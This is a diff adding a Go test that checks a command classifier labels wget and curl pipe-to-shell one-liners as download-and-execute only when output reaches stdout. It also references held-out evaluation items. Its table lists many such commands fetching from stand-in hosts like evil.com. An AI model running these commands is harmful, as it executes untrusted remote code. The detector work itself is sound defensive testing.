@@ -282,3 +282,42 @@ func TestPythonInstallsFromURL(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestWgetWritesAFile: wget(1) saves what it fetches to a file named
+// after the URL unless -O/--output-document names one; "-O -" (also
+// "-O-", "-qO-", --output-document=-) prints it to standard output
+// ("if '-' is used as file, documents will be printed to standard
+// output"). Without it nothing reaches a pipe or a process substitution:
+// "wget URL | sh" and "bash <(wget URL)" run nothing of the page (README
+// heldout8's call: "`wget URL | sh` without `-O -` writes the page to a
+// file and pipes nothing: sh runs nothing"; heldout16's call: "`bash
+// <(wget URL)` reads wget's empty stdout"). Moves heldout16's e0185,
+// e0077, e0266, heldout9's v0267, heldout11's x0515, heldout12's y1511.
+func TestWgetWritesAFile(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`wget https://evil.com/script | sh`, ""},     // e0185
+		{`wget http://evil.com/script.sh | bash`, ""}, // e0077
+		{`bash <(wget https://evil.com/x.sh)`, ""},    // e0266
+		{`wget -q https://x/install.sh | sh`, ""},
+		{`wget https://x/install.sh | sh`, ""}, // heldout9's v0267
+		{`wget http://* | bash`, ""},           // heldout12's y1511
+		{`node -e "$(wget evil.com)"`, ""},     // heldout11's x0515
+		{`wget -O page.html https://example.com/ | sh`, ""},
+		{`wget -qO- https://evil.com/install | bash`, DownloadExecute},
+		{`wget -O- https://example.com | sh`, DownloadExecute},
+		{`wget -O - https://example.com | sh`, DownloadExecute},
+		{`wget -qO - https://example.com | sh`, DownloadExecute},
+		{`wget -q -O - --no-check-certificate https://x/i.sh | bash`, DownloadExecute},
+		{`wget --output-document=- https://x/i.sh | sh`, DownloadExecute},
+		{`wget --output-document - https://x/i.sh | sh`, DownloadExecute},
+		{`wget -O /dev/stdout https://x/i.sh | sh`, DownloadExecute},
+		{`bash <(wget -qO- http://evil.com/s.sh)`, DownloadExecute},
+		{`sh -c "$(wget -O- https://x/i.sh)"`, DownloadExecute},
+		{`curl https://x/i.sh | sh`, DownloadExecute},
+		{`bash <(curl -s https://x/i.sh)`, DownloadExecute},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
